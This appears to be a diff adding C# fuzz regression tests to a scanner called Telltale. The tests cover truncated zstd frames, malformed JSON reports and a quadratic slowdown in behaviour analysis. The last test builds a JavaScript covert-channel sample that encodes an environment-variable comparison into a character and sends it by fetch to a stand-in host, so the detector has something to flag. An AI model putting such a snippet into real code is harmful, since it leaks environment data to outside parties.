@@ -1,0 +1,130 @@
+using System.Text;
+using Telltale.Artifacts;
+using Telltale.JavaScript;
+using Telltale.Reports;
+using Telltale.Scanning;
+using ZstdSharp;
+
+namespace Telltale.Tests.Fuzzing;
+
+/// <summary>Inputs the fuzzer found, rebuilt here from their description so each stays fixed.</summary>
+public sealed class FuzzRegressionTests
+{
+    private static ArtifactEntry Container(string name, byte[] content) =>
+        new() { Path = name, Name = name, Content = content, Kind = EntryKind.Archive };
+
+    private static byte[] Compressed(int length)
+    {
+        var random = new Random(11);
+        var text = new byte[length];
+        for (var i = 0; i < text.Length; i++)
+        {
+            text[i] = (byte)('a' + random.Next(26));
+        }
+
+        using var compressor = new Compressor(3);
+        return compressor.Wrap(text).ToArray();
+    }
+
+    [Fact]
+    public void Zstd_frame_cut_short_is_refused_by_the_unpacker_itself()
+    {
+        // Found by the zstd target: ZstdSharp throws EndOfStreamException ("Premature end of stream") for a cut frame.
+        var frame = Compressed(20_000);
+        using var context = new UnpackContext(ScanLimits.Default);
+
+        var entries = new ZstdUnpacker().Unpack(Container("x.txt.zst", frame[..(frame.Length / 2)]), context).ToList();
+
+        Assert.Empty(entries);
+        var refusal = Assert.Single(context.Refusals);
+        Assert.Equal(RefusalKind.Corrupt, refusal.Kind);
+        Assert.Equal("x.txt.zst", refusal.Path);
+    }
+
+    [Fact]
+    public void Zstd_frame_with_a_damaged_descriptor_is_refused_by_the_unpacker_itself()
+    {
+        // Found by the zstd target: ZstdSharp throws ZstdException ("Unknown frame descriptor") after the magic.
+        var frame = Compressed(1_000);
+        frame[4] = 0xFF;
+        using var context = new UnpackContext(ScanLimits.Default);
+
+        var entries = new ZstdUnpacker().Unpack(Container("x.zst", frame), context).ToList();
+
+        Assert.Empty(entries);
+        Assert.Equal(RefusalKind.Corrupt, Assert.Single(context.Refusals).Kind);
+    }
+
+    // The smallest report the reader accepts; the tests below damage one string in it.
+    private const string MinimalReport = """
+        {"schemaVersion":"1.3","tool":{"name":"telltale","version":"1.0.0"},
+         "target":{"name":"NAME","version":null,"sha256":"00","source":"./x"},
+         "scannedAt":"2025-03-01T14:00:00Z","findings":[],"statistics":{"entries":1,"bytes":1,"literals":0,"decodedLiterals":0,"elapsedMs":1}}
+        """;
+
+    [Fact]
+    public void Report_reader_accepts_the_minimal_report_the_damaged_ones_start_from() =>
+        Assert.Equal("NAME", JsonReportReader.Read(MinimalReport).Target.Name);
+
+    [Fact]
+    public void Report_with_a_lone_surrogate_escape_in_a_value_is_invalid_data()
+    {
+        // Found by the json-report target: JsonElement.GetString throws InvalidOperationException for "\ud800".
+        var json = MinimalReport.Replace("\"NAME\"", "\"\\ud800\"", StringComparison.Ordinal);
+
+        Assert.Throws<InvalidDataException>(() => JsonReportReader.Read(json));
+    }
+
+    [Fact]
+    public void Report_with_a_lone_surrogate_escape_in_a_property_name_is_invalid_data()
+    {
+        // Found by the json-report target: comparing property names unescapes them and throws the same way.
+        var json = MinimalReport.Replace("\"tool\"", "\"\\ud800\"", StringComparison.Ordinal);
+
+        Assert.Throws<InvalidDataException>(() => JsonReportReader.Read(json));
+    }
+
+    [Fact]
+    public void Report_stream_with_invalid_utf8_in_a_string_is_invalid_data()
+    {
+        // Found by the json-report target: the parser leaves string contents unchecked until they are read.
+        var bytes = Encoding.UTF8.GetBytes(MinimalReport);
+        var at = Encoding.UTF8.GetString(bytes).IndexOf("NAME", StringComparison.Ordinal);
+        bytes[at + 1] = 0xA7;
+
+        Assert.Throws<InvalidDataException>(() => JsonReportReader.Read(new MemoryStream(bytes)));
+    }
+
+    [Fact]
+    public void Behaviour_analysis_of_a_deeply_nested_call_chain_finishes_and_still_finds_the_channel()
+    {
+        // Found while sizing the behaviour target: every identifier's scope lookup walked all its ancestors, so a
+        // channel passed through f(f(f(…))) 40,000 deep took 21 s to trace and 120,000 deep minutes (quadratic).
+        // Now about a second; the 120 s backstop is the one timing this suite allows and is far from either.
+        const int depth = 120_000;
+        var script = new StringBuilder("const ap = () => process.env.API_URL === \"https://x.example\" ? \"\u2019\" : \"'\";\nfunction f(v) { return v; }\nconst x = ");
+        script.Insert(script.Length, "f(", depth).Append("ap()").Append(')', depth).Append(";\nfetch(\"https://api.example\", { body: x });\n");
+        BehaviourAnalysis? analysis = null;
+        Exception? failure = null;
+        var worker = new Thread(
+            () =>
+            {
+                try
+                {
+                    analysis = new BehaviourAnalyzer(ScanLimits.Default).Analyze(script.ToString(), "nested.js");
+                }
+                catch (Exception ex)
+                {
+                    failure = ex;
+                }
+            },
+            256 * 1024 * 1024) { IsBackground = true };
+
+        worker.Start();
+
+        Assert.True(worker.Join(TimeSpan.FromSeconds(120)), "the analysis of the nested call chain did not finish in 120 s");
+        Assert.Null(failure);
+        Assert.Null(analysis!.ParseError);
+        Assert.Equal(BehaviourAnalyzer.CovertChannelRuleId, Assert.Single(analysis.Findings).RuleId);
+    }
+}
